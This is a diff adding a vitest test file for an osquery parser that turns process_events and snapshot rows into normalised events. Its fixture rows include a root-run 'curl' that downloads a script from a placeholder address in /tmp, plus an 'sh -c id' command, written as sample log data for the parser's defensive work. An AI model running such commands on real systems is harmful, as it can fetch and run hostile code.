@@ -1,0 +1,111 @@
+import { describe, expect, it } from 'vitest';
+import { createOsqueryParser } from '../../../src/sources/parsers/osquery.js';
+import { baseOptions, run } from './parser-harness.js';
+
+const names: Record<number, string> = { 0: 'root', 1000: 'alice' };
+const parser = () =>
+  createOsqueryParser({ ...baseOptions, resolveUid: (uid) => names[uid] ?? null });
+
+const row = {
+  pid: '31337',
+  path: '/usr/bin/curl',
+  cmdline: 'curl -s http://203.0.113.9/x.sh',
+  cwd: '/tmp',
+  auid: '1000',
+  uid: '0',
+  euid: '0',
+  gid: '0',
+  egid: '0',
+  parent: '31300',
+  time: '1795530208',
+  uptime: '86400',
+  syscall: 'execve',
+  env_count: '12',
+  overflows: '',
+};
+
+const eventLine = {
+  name: 'process_events',
+  hostIdentifier: 'web-1',
+  calendarTime: 'Tue Nov 24 14:23:30 2026 UTC',
+  unixTime: 1795530210,
+  epoch: 0,
+  counter: 12,
+  numerics: false,
+  decorations: { host_uuid: '4C4C4544-0042-4310-8058-B4C04F4E3132' },
+  columns: row,
+  action: 'added',
+};
+
+describe('osquery parser', () => {
+  it('parses a process_events row in event format', () => {
+    const { events, malformed } = run(parser(), [JSON.stringify(eventLine)]);
+    expect(malformed).toEqual([]);
+    expect(events[0]).toMatchObject({
+      time: new Date(1795530208000),
+      host: 'web-1',
+      user: 'alice',
+      loginUid: 1000,
+      runAs: 'root',
+      argv: ['curl', '-s', 'http://203.0.113.9/x.sh'],
+      exe: '/usr/bin/curl',
+      cwd: '/tmp',
+      pid: 31337,
+      ppid: 31300,
+      sourceFormat: 'osquery',
+      extra: { osquery_query: 'process_events', uid: '0', syscall: 'execve' },
+    });
+    expect(events[0]!.eventKey).toMatch(/^osquery:web-1:process_events:1795530208:31337:[0-9a-f]{16}$/);
+  });
+
+  it('emits one event per added row of a batch, ignoring removed rows', () => {
+    const batch = {
+      name: 'process_events',
+      hostname: 'db-2',
+      unixTime: '1795530210',
+      diffResults: {
+        added: [row, { ...row, pid: '31338', cmdline: 'sh -c id', auid: '4294967295' }],
+        removed: [{ ...row, pid: '1' }],
+      },
+    };
+    const { events } = run(parser(), [JSON.stringify(batch)]);
+    expect(events.map((e) => [e.host, e.pid, e.user, e.command])).toEqual([
+      ['db-2', 31337, 'alice', 'curl -s http://203.0.113.9/x.sh'],
+      ['db-2', 31338, null, 'sh -c id'],
+    ]);
+    expect(new Set(events.map((e) => e.eventKey)).size).toBe(2);
+  });
+
+  it('reads snapshot results and numeric columns, naming unknown uids by number', () => {
+    const snapshot = {
+      name: 'procs',
+      hostIdentifier: 'web-3',
+      unixTime: 1795530210,
+      action: 'snapshot',
+      snapshot: [{ pid: 5, path: '/usr/sbin/sshd', cmdline: '', auid: 2001, euid: 0 }],
+    };
+    const { events } = run(parser(), [JSON.stringify(snapshot)]);
+    expect(events[0]).toMatchObject({ argv: ['/usr/sbin/sshd'], user: '2001', time: new Date(1795530210000) });
+  });
+
+  it('skips other query results and removed actions silently', () => {
+    const lines = [
+      JSON.stringify({ ...eventLine, name: 'listening_ports', columns: { port: '22', address: '0.0.0.0' } }),
+      JSON.stringify({ ...eventLine, action: 'removed' }),
+    ];
+    expect(run(parser(), lines)).toEqual({ events: [], malformed: [] });
+  });
+
+  it('reports wrong types and non-osquery objects', () => {
+    const lines = [
+      JSON.stringify({ ...eventLine, columns: { ...row, pid: 'abc' } }),
+      JSON.stringify({ ...eventLine, columns: 'x' }),
+      JSON.stringify({ ...eventLine, columns: { ...row, time: 'soon' }, unixTime: undefined }),
+      JSON.stringify({ something: 'else' }),
+      '{"name":"process_events","columns":{"cmdline":"curl',
+    ];
+    const { events, malformed } = run(parser(), lines);
+    expect(events).toEqual([]);
+    expect(malformed.map((m) => m.reason)).toEqual(['bad_json', 'bad_json', 'bad_json', 'bad_json', 'truncated']);
+  });
+});
